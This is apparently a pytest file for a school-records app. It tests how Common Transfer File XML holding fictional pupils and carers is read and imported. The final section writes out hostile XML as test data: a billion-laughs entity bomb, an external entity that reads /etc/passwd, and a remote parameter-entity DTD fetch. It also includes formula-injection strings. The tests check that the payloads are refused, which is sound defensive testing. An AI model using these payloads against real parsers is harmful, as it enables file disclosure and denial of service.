"""Common Transfer Files: a small fictional CTF read and imported, and hostile XML refused."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from datetime import date

import pytest
from import_support import carers_of, counts, pupil_named, pupils, snapshot, upn

from desc_desktop.services import importing
from desc_desktop.services.import_files import UnreadableFile, read_source
from desc_desktop.store.tables import Carer, PupilCarer


def add(parent: ET.Element, tag: str, text: str | None = None, **children) -> ET.Element:
    element = ET.SubElement(parent, tag)
    element.text = text
    for name, value in children.items():
        ET.SubElement(element, name).text = value
    return element


def contact(order: str, title: str, forename: str, surname: str, relationship: str,
            responsibility: str, phones: tuple[tuple[str, str], ...] = (),
            email: str = "") -> dict:
    return {"Order": order, "Title": title, "Forename": forename, "Surname": surname,
            "Relationship": relationship, "Responsibility": responsibility,
            "phones": phones, "Email": email}


ISLA = {"UPN": upn(11), "Surname": "Wrenfield", "Forename": "Isla", "DOB": "2013-04-02",
        "Gender": "F", "year": "8",
        "bs7666": {"SAON": "Flat 3", "PAON": "12", "Street": "Thornbury Lane",
                   "Locality": "Apsley", "PostTown": "Hemel Hempstead"},
        "postcode": "HP3 9QQ",
        "contacts": [
            # Listed out of order: Order decides who is contact 1.
            contact("2", "Mr", "Gareth", "Wrenfield", "PAR", "false",
                    (("M", "07700 900222"),)),
            contact("1", "Mrs", "Helen", "Wrenfield", "PAR", "true",
                    (("H", "01632 960111"), ("M", "07700 900111")), "helen@example.org"),
        ]}
RORY = {**ISLA, "UPN": upn(12), "Forename": "Rory", "DOB": "2011-11-20", "Gender": "M",
        "year": "10"}
ADA = {"UPN": upn(13), "Surname": "Okonkwo", "Forename": "Ada", "DOB": "2012-10-30",
       "Gender": "F", "year": "9",
       "lines": ["4 Mill Row", "Boxmoor", "Hemel Hempstead"], "postcode": "HP1 2AB",
       "contacts": [contact("1", "Dr", "Chidi", "Okonkwo", "CAR", "true",
                            (("W", "01632 960333"),))]}


def ctf_bytes(*pupil_data: dict, namespace: str = "") -> bytes:
    ns = f"{{{namespace}}}" if namespace else ""
    root = ET.Element(f"{ns}CTfile")
    header = add(root, f"{ns}Header")
    add(header, f"{ns}DocumentName", "Common Transfer File")
    data = add(root, f"{ns}CTFpupilData")
    for p in pupil_data:
        pupil = add(data, f"{ns}Pupil")
        for tag in ("UPN", "Surname", "Forename", "DOB", "Gender"):
            if tag in p:
                add(pupil, f"{ns}{tag}", p[tag])
        basic = add(pupil, f"{ns}BasicDetails")
        add(basic, f"{ns}NCyearActual", p.get("year", ""))
        if "bs7666" in p or "lines" in p:
            address = add(pupil, f"{ns}Address")
            if "bs7666" in p:
                bs = add(address, f"{ns}BS7666Address")
                for tag, value in p["bs7666"].items():
                    add(bs, f"{ns}{tag}", value)
            else:
                lines = add(address, f"{ns}AddressLines")
                for n, value in enumerate(p["lines"], start=1):
                    add(lines, f"{ns}AddressLine{n}", value)
            add(address, f"{ns}PostCode", p["postcode"])
        contacts = add(pupil, f"{ns}Contacts")
        for c in p.get("contacts", []):
            element = add(contacts, f"{ns}Contact")
            for tag in ("Order", "Title", "Forename", "Surname", "Relationship",
                        "Responsibility"):
                add(element, f"{ns}{tag}", c[tag])
            phones = add(element, f"{ns}Phones")
            for kind, number in c["phones"]:
                phone = add(phones, f"{ns}Phone")
                add(phone, f"{ns}TelephoneType", kind)
                add(phone, f"{ns}PhoneNo", number)
            if c["Email"]:
                add(element, f"{ns}Email", c["Email"])
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + ET.tostring(root, encoding="utf-8")


@pytest.fixture
def ctf(tmp_path):
    def write(*pupil_data: dict, name: str = "school.xml", **kwargs):
        path = tmp_path / name
        path.write_bytes(ctf_bytes(*pupil_data, **kwargs))
        return path

    return write


def run(ctx, path):
    table = read_source(path)
    return table, importing.plan_import(ctx, table, {}), importing.apply_import(ctx, table, {})


# --- reading ---------------------------------------------------------------------------


def test_a_ctf_is_read_field_by_field_without_a_mapping(ctf):
    table = read_source(ctf(ISLA, ADA))
    assert table.kind == "ctf" and table.headings == []
    (n1, isla), (n2, ada) = table.keyed
    assert (n1, n2) == (1, 2)
    assert {k: isla[k] for k in ("upn", "legal_surname", "legal_forename", "dob", "gender",
                                 "year_group")} == {
        "upn": upn(11), "legal_surname": "Wrenfield", "legal_forename": "Isla",
        "dob": "2013-04-02", "gender": "F", "year_group": "8"}
    # BS7666: the sub-building first, then number and street, then the locality.
    assert [isla[f"address.{k}"] for k in ("line1", "line2", "line3", "town", "postcode")] == [
        "Flat 3", "12 Thornbury Lane", "Apsley", "Hemel Hempstead", "HP3 9QQ"]
    # Address lines: the last line is the town.
    assert [ada[f"address.{k}"] for k in ("line1", "line2", "town", "postcode")] == [
        "4 Mill Row", "Boxmoor", "Hemel Hempstead", "HP1 2AB"]
    # Contacts in their Order; PAR is a parent; phones by type.
    assert {k: isla[f"contact1.{k}"] for k in ("title", "forename", "relationship",
                                               "parental_responsibility", "phone", "mobile",
                                               "email")} == {
        "title": "Mrs", "forename": "Helen", "relationship": "Parent",
        "parental_responsibility": "true", "phone": "01632 960111",
        "mobile": "07700 900111", "email": "helen@example.org"}
    assert (isla["contact2.forename"], isla["contact2.parental_responsibility"],
            isla["contact2.mobile"]) == ("Gareth", "false", "07700 900222")
    assert (ada["contact1.relationship"], ada["contact1.work_phone"]) == ("Carer", "01632 960333")
    assert ada["contact1.phone"] == ""  # a work number is not the home phone


def test_a_namespaced_ctf_with_a_bom_is_read_too(ctf, tmp_path):
    path = tmp_path / "ns.xml"
    path.write_bytes(b"\xef\xbb\xbf" + ctf_bytes(ADA, namespace="urn:example:ctf"))
    ((_n, ada),) = read_source(path).keyed
    assert ada["legal_forename"] == "Ada" and ada["contact1.forename"] == "Chidi"


# --- importing -------------------------------------------------------------------------


def test_a_ctf_imports_pupils_addresses_and_contacts(ctx, engine, ctf):
    _table, plan, result = run(ctx, ctf(ISLA, ADA))
    assert [(o.row, o.kind, o.name) for o in plan.outcomes] == [
        (1, "new", "Isla Wrenfield"), (2, "new", "Ada Okonkwo")]
    assert (result.new, result.rejected) == (2, 0)
    isla = pupil_named(engine, "Isla")
    assert (isla.upn, isla.dob, isla.gender, isla.year_group) == (
        upn(11), date(2013, 4, 2), "F", "8")
    assert (isla.address_line1, isla.address_line2, isla.address_line3, isla.town,
            isla.postcode) == ("Flat 3", "12 Thornbury Lane", "Apsley", "Hemel Hempstead",
                               "HP3 9QQ")
    (helen_link, helen), (gareth_link, gareth) = carers_of(engine, isla.id)
    assert (helen.title, helen.forename, helen.phone_home, helen.phone_mobile, helen.email) == (
        "Mrs", "Helen", "01632 960111", "07700 900111", "helen@example.org")
    assert (helen_link.relationship, helen_link.parental_responsibility,
            helen_link.priority) == ("Parent", True, 1)
    assert (gareth.forename, gareth_link.parental_responsibility, gareth_link.priority) == (
        "Gareth", False, 2)
    assert helen.same_address_as_pupil and gareth.same_address_as_pupil


def test_reimporting_a_ctf_changes_nothing_and_siblings_share_parents(ctx, engine, ctf,
                                                                    count_rows):
    path = ctf(ISLA, RORY, ADA)
    run(ctx, path)
    assert count_rows(Carer) == 3 and count_rows(PupilCarer) == 5
    before = snapshot(engine)
    _table, plan, result = run(ctx, path)
    assert counts(plan) == {"new": 0, "update": 0, "unchanged": 3, "rejected": 0}
    assert (result.new, result.updated, result.unchanged) == (0, 0, 3)
    assert snapshot(engine) == before


def test_a_later_ctf_updates_what_changed(ctx, engine, ctf):
    run(ctx, ctf(ISLA, ADA))
    moved = {**ADA, "year": "10", "lines": ["9 Canal Side", "Hemel Hempstead"],
             "postcode": "HP1 1AA"}
    _table, plan, _result = run(ctx, ctf(ISLA, moved, name="later.xml"))
    assert [o.kind for o in plan.outcomes] == ["unchanged", "update"]
    assert "Year group" in plan.outcomes[1].detail
    ada = pupil_named(engine, "Ada")
    assert (ada.year_group, ada.address_line1, ada.postcode) == ("10", "9 Canal Side",
                                                                 "HP1 1AA")


def test_ctf_rows_are_rejected_by_position_with_reasons(ctx, engine, ctf, tmp_path):
    bad = {**ADA, "UPN": upn(14), "Forename": "Obi", "DOB": "2012-02-30"}
    dup = {**ADA, "Forename": "Adaeze"}
    table, plan, result = run(ctx, ctf(ISLA, bad, ADA, dup))
    assert [(o.row, o.kind) for o in plan.outcomes] == [
        (1, "new"), (2, "rejected"), (3, "new"), (4, "rejected")]
    assert "2012-02-30" in plan.outcomes[1].detail
    assert "already used by row 3" in plan.outcomes[3].detail
    assert result.new == 2 and len(pupils(engine)) == 2
    out = tmp_path / "rejected.csv"
    assert importing.write_rejected(out, table, plan) == 2
    text = out.read_text(encoding="utf-8-sig")
    heading, *rows = text.splitlines()
    assert heading.startswith("UPN,Legal surname,Legal forename")
    assert heading.endswith(",Rejected because")
    assert [r.split(",")[2] for r in rows] == ["Obi", "Adaeze"]


@pytest.mark.filterwarnings("error::DeprecationWarning")
def test_reading_a_ctf_uses_no_deprecated_element_truth_test(ctf):
    # Python 3.12 warns that testing an Element's truth value will raise in future.
    read_source(ctf(ISLA, ADA, {**ADA, "UPN": upn(15), "contacts": []}))


# --- files that are not, or must not be read as, a CTF -----------------------------------


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CTfile><CTFpupilData><Pupil><Surname>&lol9;</Surname><Forename>Kit</Forename>
<DOB>2013-03-14</DOB><Gender>M</Gender></Pupil></CTFpupilData></CTfile>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CTfile><CTFpupilData><Pupil><Surname>&secret;</Surname><Forename>Kit</Forename>
<DOB>2013-03-14</DOB><Gender>M</Gender></Pupil></CTFpupilData></CTfile>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<CTfile><CTFpupilData/></CTfile>
"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion laughs", "external entity", "parameter entity"])
def test_entities_are_refused_without_expanding(ctx, engine, tmp_path, payload):
    path = tmp_path / "evil.xml"
    path.write_bytes(payload)
    before = snapshot(engine)
    started = time.perf_counter()
    with pytest.raises(UnreadableFile, match="Common Transfer File") as refused:
        read_source(path)
    assert time.perf_counter() - started < 2  # refused at the declaration, not expanded
    assert "root:" not in str(refused.value) and "lol" not in str(refused.value)
    assert snapshot(engine) == before


@pytest.mark.parametrize(("payload", "words"), [
    (b"<html><body>Not a CTF</body></html>", "not a Common Transfer File"),
    (b"<?xml version='1.0'?><CTfile><Pupil>", "could not be read"),
    (b"  <CTfile><CTFpupilData><Pupil><Surname>A</Surname></CTfile>", "could not be read"),
])
def test_other_xml_is_unreadable_with_a_reason(tmp_path, payload, words):
    path = tmp_path / "other.xml"
    path.write_bytes(payload)
    with pytest.raises(UnreadableFile, match=words):
        read_source(path)


def test_ctf_values_are_kept_as_text(ctx, engine, ctf):
    odd = {**ADA, "Surname": "=1+1", "contacts": [
        contact("1", "@SUM(A1)", "Chidi", "+Okonkwo", "OTH", "true")]}
    run(ctx, ctf(odd))
    (ada,) = pupils(engine)
    assert ada.legal_surname == "=1+1"
    ((link, carer),) = carers_of(engine, ada.id)
    assert (carer.title, carer.surname, link.relationship) == ("@SUM(A1)", "+Okonkwo", "Other")
